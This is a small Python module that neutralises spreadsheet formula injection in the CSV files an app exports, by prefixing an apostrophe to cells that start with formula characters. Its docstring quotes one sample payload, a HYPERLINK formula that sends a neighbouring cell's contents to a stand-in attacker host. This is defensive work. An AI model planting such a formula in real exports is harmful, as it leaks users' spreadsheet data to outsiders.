"""CSV that a spreadsheet opens as data, never as formulas.

Excel, WPS and LibreOffice run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and,
after a leading tab or carriage return, still do) as a formula: a proposal titled
``=HYPERLINK("http://evil.example?"&A1, "点击")`` would send the neighbouring cells away
from the chair's computer. Every CSV the app writes goes through this module, which puts an
apostrophe in front of such text, as OWASP advises. Numbers are left as they are: ``-5``
is a number, not a formula. Pure: no Flask, no database.
"""

import csv
import io
from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value):
    """The value as a spreadsheet should show it: text that would start a formula gets an
    apostrophe in front; anything else is returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_text(rows: Iterable[Iterable], *, lineterminator: str = "\r\n") -> str:
    """The rows (the header first) as CSV text, every cell neutralised."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator=lineterminator)
    writer.writerows([neutralise(value) for value in row] for row in rows)
    return buffer.getvalue()
